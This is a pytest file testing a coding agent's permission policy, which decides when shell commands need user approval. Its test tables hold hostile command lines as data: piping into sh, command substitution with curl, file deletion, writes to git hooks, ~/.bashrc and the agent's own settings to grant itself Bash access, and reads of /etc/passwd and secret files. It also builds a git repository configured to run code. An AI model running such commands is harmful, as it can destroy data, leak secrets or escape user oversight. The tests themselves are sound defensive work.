    ("grep -rn TODO src 2>/dev/null", "allow"), ("git branch -a", "allow"), ("cd src && ls", "allow"),
    ("ls > out.txt", "ask"), ("ls $(curl e)", "ask"), ("cat a | sh", "ask"), ("git push", "ask"), ("git branch -D main", "ask"),
    ("git branch --set-upstream-to=o/x", "ask"), ("sort -o out a", "ask"), ("find . -delete", "ask"),
    ("find . -exec rm {} ;", "ask"), ("X=1 ls", "ask"), ("./ls", "ask"), ("ls; make", "ask"), ("git -c core.pager=x log", "ask"),
    ("git diff --output=x", "ask"), ("rg --pre sh x", "ask"), ("printf -v x y", "ask"), ("cat a >> b", "ask"),
    ("ls | xargs rm", "ask"), ("nice ls", "ask"), ("less a", "ask"), ("echo hi > /dev/null", "allow"),
    ("sort --compress-program=sh a", "ask"), ("tree -o out", "ask"), ("git grep -O x", "ask"),
    ("git cat-file --textconv HEAD:a", "ask"),
]


@pytest.mark.parametrize("command,expected", READ_ONLY_TABLE)
def test_read_only_bash_runs_without_a_prompt(command, expected):
    assert policy().decide("Bash", {"command": command}).behavior == expected


def test_read_only_bash_still_yields_to_deny_and_ask_rules_and_plan_mode_allows_it():
    assert policy(deny=["Bash(ls:*)"]).decide("Bash", {"command": "ls"}).behavior == "deny"
    assert policy(ask=["Bash(git log:*)"]).decide("Bash", {"command": "git log"}).behavior == "ask"
    assert policy(mode="plan").decide("Bash", {"command": "git rev-parse HEAD"}).behavior == "allow"
    assert policy(mode="plan").decide("Bash", {"command": "git status"}).behavior == "ask", "reads, but may run repository code"
    assert policy(mode="plan").decide("Bash", {"command": "make"}).behavior == "deny"
    assert policy(mode="dontAsk").decide("Bash", {"command": "ls"}).behavior == "allow"


def test_read_deny_rules_apply_to_the_files_a_read_only_line_names(proj):
    # Claude Code applies Read deny rules to the file commands it recognizes in Bash, such as cat
    # (its permissions reference); read-only lines auto-approved since anthropics/claude-code#1128.
    root, _ = proj
    p = policy(deny=["Read(./secrets/**)"], cwd=str(root))
    assert p.decide("Bash", {"command": "cat secrets/key.txt"}).behavior == "deny"
    assert p.decide("Bash", {"command": "grep -r k secrets"}).behavior == "deny"
    assert p.decide("Bash", {"command": "cat alias.txt"}).behavior == "deny", "a symlink into a denied folder"
    assert p.decide("Bash", {"command": "head < secrets/key.txt"}).behavior == "deny"
    assert p.decide("Bash", {"command": "cat */key.txt"}).behavior == "ask", "an expanded argument cannot be checked"
    assert p.decide("Bash", {"command": "cat notes.env"}).behavior == "allow"


@pytest.mark.parametrize("command", [
    "echo '{\"permissions\": {\"allow\": [\"Bash\"]}}' > .agentloop/settings.local.json", "cp hook .git/hooks/post-checkout",
    "tee -a ~/.bashrc < x", "rm -rf .GIT", "printf x >> .mcp.json", "ln -s /tmp/x .claude/settings.json",
    "mv payload src/../.git/config", "sed -i s/a/b/ {al}/settings.json",
])
def test_bash_naming_a_protected_path_in_a_command_that_may_write_it_asks_even_in_bypass(guarded, command):
    # ("in every permission mode, bypass included"), for the paths a Bash line names
    root, home, al = guarded
    for mode in ("bypassPermissions", "acceptEdits", "default"):
        p = _guarded_policy(root, home, al, mode=mode, allow=[])
        p.rules.clear()
        p.add_rule("allow", "Bash")
        d = p.decide("Bash", {"command": command.replace("{al}", str(al))})
        assert d.behavior == "ask", (mode, command, d)


def test_bash_reading_a_protected_path_or_writing_elsewhere_is_not_held_up(guarded):
    root, home, al = guarded
    p = _guarded_policy(root, home, al, mode="bypassPermissions", allow=[])
    for command in ("cat .git/config", "ls .agentloop", "git log", "echo x > notes.txt", "cp a b"):
        assert p.decide("Bash", {"command": command}).behavior == "allow", command
    p.add_exact("allow", "Bash", "cp hook .git/hooks/post-checkout")
    assert p.decide("Bash", {"command": "cp hook .git/hooks/post-checkout"}).behavior == "allow", "the user's exact approval"


def test_a_workspace_inside_the_agentloop_home_keeps_its_own_files_writable(tmp_path):
    al = tmp_path.resolve() / "al"
    root = al / "work"
    root.mkdir(parents=True)
    p = PermissionPolicy.from_settings([], mode="bypassPermissions", cwd=str(root))
    p.protected_roots = [str(al)]
    assert p.decide("Write", {"file_path": str(root / "a.txt"), "content": ""}).behavior == "allow"
    assert p.decide("Write", {"file_path": str(al / "settings.json"), "content": ""}).behavior == "ask"


# --- auto-approval only for lines that change nothing and stay inside -------------------------
# Claude Code permissions reference: read-only operations need no approval; "Bash commands" do.
# A read-only program given an output option, an option that runs a program, or a long option
# abbreviated as GNU getopt allows (--compress= is --compress-program, --out= is --output) is not
# read-only; nor is a line that names a path outside the workspace and the added directories.

CHANGES_OR_RUNS = [
    "sort -S 1K --compress=sh a", "sort -uo victim f", "sort --out=victim f", "sort --o=victim f", "sort -o victim f",
    "uniq - victim", "uniq in victim", "git --namespace log clean -fdx", "git grep -O'cmd' x", "git grep --open=cmd x",
    "git grep -nO cmd x", "git -p log", "git --paginate status", "git -C /elsewhere status", "git log --out=x",
    "git diff --ext-d", "wc --files0-from=list", "date --se=2020-01-01", "rg --pre-g '*' --pre cmd x", "tree -ao out",
    "file -Cm magic", "ls > victim", "ls 1<>victim", "ls >&victim",
]


@pytest.mark.parametrize("line", CHANGES_OR_RUNS)
def test_a_read_only_program_that_writes_or_runs_something_is_not_auto_approved(line):
    assert policy().decide("Bash", {"command": line}).behavior == "ask", line


def test_read_only_lines_are_auto_approved_only_while_every_path_they_name_stays_inside(tmp_path):
    root = tmp_path.resolve() / "proj"
    (root / "src").mkdir(parents=True)
    extra = tmp_path.resolve() / "extra"
    extra.mkdir()
    home = tmp_path.resolve() / "home"
    home.mkdir()
    (home / "secret.txt").write_text("s")
    os.symlink(home / "secret.txt", root / "link.txt")
    src = SettingsSource(str(root / ".agentloop/settings.json"), "project", {"permissions": {"additionalDirectories": [str(extra)]}})
    p = PermissionPolicy.from_settings([src], cwd=str(root), user_home=str(home))
    inside = ["cat src/a.py", "ls", "cd src && ls", "grep -rn TODO src", f"cat {extra}/notes.md", "wc -l /dev/null",
              "git rev-parse HEAD", "ls *.py", "head -n 5 src/a.py", "cat < src/a.py"]
    outside = ["cat ~/secret.txt ~/other/.env", f"cat {home}/secret.txt", "ls ..", "cat ../x", "cd", "cd .. && ls",
               "cat link.txt", "cat $HOME/x", "grep -f/etc/passwd x", "grep --file=/etc/passwd x", "ls ../*", "cat < ~/x",
               "cat ~root/.profile", "find / -name x"]
    for line in inside:
        assert p.decide("Bash", {"command": line}).behavior == "allow", line
    for line in outside:
        assert p.decide("Bash", {"command": line}).behavior == "ask", line


# Claude Code's changelog (1.0.123): Bash rules match commands with output redirections
# ("Bash(python:*) matches python script.py > output.txt"); its permissions reference: rules are
# aware of shell operators, so "Bash(safe-cmd *)" does not approve "safe-cmd && other-cmd". Here a
# rule approves a redirection to a file only when its own pattern shows a redirection.


@pytest.mark.parametrize("allow,line", [
    ("Bash(echo:*)", "echo hi > victim"), ("Bash(echo:*)", "echo hi 1<>victim"), ("Bash(echo:*)", "echo hi >&victim"),
    ("Bash(echo:*)", "echo hi >> victim"), ("Bash(echo:*)", "echo hi &> victim"), ("Bash(ls:*)", "ls > victim"),
    ("Bash(git status:*)", "git status > victim"), ("Bash(echo:*)", "sh -c 'echo hi > victim'"),
    ("Bash(echo *)", "(echo hi) > victim; echo hi > victim"),
])
def test_an_allow_rule_does_not_approve_a_redirection_to_a_file_unless_it_shows_one(allow, line):
    assert policy(allow=[allow, "Bash(sh:*)"]).decide("Bash", {"command": line}).behavior == "ask", (allow, line)


def test_an_allow_rule_that_shows_a_redirection_approves_it_and_harmless_ones_need_none():
    assert policy(allow=["Bash(echo * > out.txt)"]).decide("Bash", {"command": "echo hi > out.txt"}).behavior == "allow"
    assert policy(allow=["Bash(echo * > out.txt)"]).decide("Bash", {"command": "echo hi >out.txt"}).behavior == "allow"
    assert policy(allow=["Bash(echo * > out.txt)"]).decide("Bash", {"command": "echo hi > other"}).behavior == "ask"
    for line in ("echo hi", "echo hi 2>&1", "echo hi > /dev/null", "echo hi 2>/dev/null"):
        assert policy(allow=["Bash(echo:*)"]).decide("Bash", {"command": line}).behavior == "allow", line


GIT_ENV = {"GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}
READ_ONLY_GIT_LINES = ["git status", "git diff", "git diff HEAD", "git log -p", "git show", "git blame f.txt", "git grep x",
                       "git ls-files", "git log --oneline", "git branch -a", "git rev-parse HEAD", "git shortlog -s HEAD"]
REPO_CODE = {"core.fsmonitor": "touch RAN-fsmonitor; false", "diff.external": "sh -c 'touch RAN-external'",
             "diff.t.textconv": "sh -c 'touch RAN-textconv; cat \"$1\"' -", "filter.f.clean": "sh -c 'touch RAN-clean; cat'",
             "core.pager": "sh -c 'touch RAN-pager; cat'"}


def _repo(path, config: dict[str, str]):
    import subprocess as sp
    env = {**os.environ, **GIT_ENV, "HOME": str(path)}
    path.mkdir()
    sp.run(["git", "init", "-q"], cwd=path, check=True, env=env)
    (path / ".gitattributes").write_text("*.txt diff=t filter=f\n")
    (path / "f.txt").write_text("x\n")
    sp.run(["git", "add", "."], cwd=path, check=True, env=env)
    sp.run(["git", "commit", "-qm", "one"], cwd=path, check=True, env=env)
    (path / "f.txt").write_text("y\n")
    for k, v in config.items():
        sp.run(["git", "config", k, v], cwd=path, check=True, env=env)
    return env


def test_git_lines_are_not_auto_approved_where_the_repository_configures_programs_git_would_run(tmp_path):
    """Nothing auto-approved runs repository code, in any sandbox mode: under danger-full-access an
    approved ``git status`` would run the repository's ``core.fsmonitor`` on the host. The real git
    shows which of these lines run repository code; none of them is auto-approved in such a repository,
    while the same lines are in a repository that configures no program."""
    import subprocess as sp
    hostile, clean = tmp_path / "hostile", tmp_path / "clean"
    env = _repo(hostile, REPO_CODE)
    _repo(clean, {})
    ran_code = set()
    for line in READ_ONLY_GIT_LINES:
        for marker in hostile.glob("RAN-*"):
            marker.unlink()
        assert PermissionPolicy.from_settings([], cwd=str(hostile)).decide("Bash", {"command": line}).behavior == "ask", line
        expected = "allow" if line in ("git branch -a", "git rev-parse HEAD") else "ask"  # objects and refs only
        assert PermissionPolicy.from_settings([], cwd=str(clean)).decide("Bash", {"command": line}).behavior == expected, line
        sp.run(["bash", "-c", line], cwd=hostile, env={**env, "PAGER": "cat"}, capture_output=True, timeout=30)
        if list(hostile.glob("RAN-*")):
            ran_code.add(line)
    assert {"git status", "git diff"} <= ran_code, f"the oracle: the real git runs the repository's programs ({ran_code})"


def test_a_submodules_own_configuration_counts_and_a_submodule_path_does_not(tmp_path):
    root = tmp_path / "r"
    _repo(root, {"submodule.lib.path": "lib", "submodule.lib.url": "../lib"})
    p = PermissionPolicy.from_settings([], cwd=str(root))
    assert p.decide("Bash", {"command": "git branch -a"}).behavior == "allow"
    mod = root / ".git" / "modules" / "lib"
    mod.mkdir(parents=True)
    (mod / "config").write_text("[core]\n\tfsmonitor = ./run-me\n")
    assert PermissionPolicy.from_settings([], cwd=str(root)).decide("Bash", {"command": "git branch -a"}).behavior == "ask"


def test_plan_mode_lets_web_lookups_be_asked_for_and_still_denies_changes() -> None:
    """Plan mode is for reading and research before changing anything: web lookups are asked for (or
    allowed by a rule) as in the default mode, while writes and commands that change things are refused."""
    p = policy(mode="plan")
    assert p.decide("WebFetch", {"url": "https://docs.example.com/a", "prompt": "x"}).behavior == "ask"
    assert p.decide("WebSearch", {"query": "x"}).behavior == "ask"
    assert p.decide("Write", {"file_path": "/proj/a.txt", "content": "x"}).behavior == "deny"
    allowed = policy(allow=["WebFetch(domain:docs.example.com)"], mode="plan")
    assert allowed.decide("WebFetch", {"url": "https://docs.example.com/a", "prompt": "x"}).behavior == "allow"
    assert allowed.decide("WebFetch", {"url": "https://other.example.com/a", "prompt": "x"}).behavior == "ask"
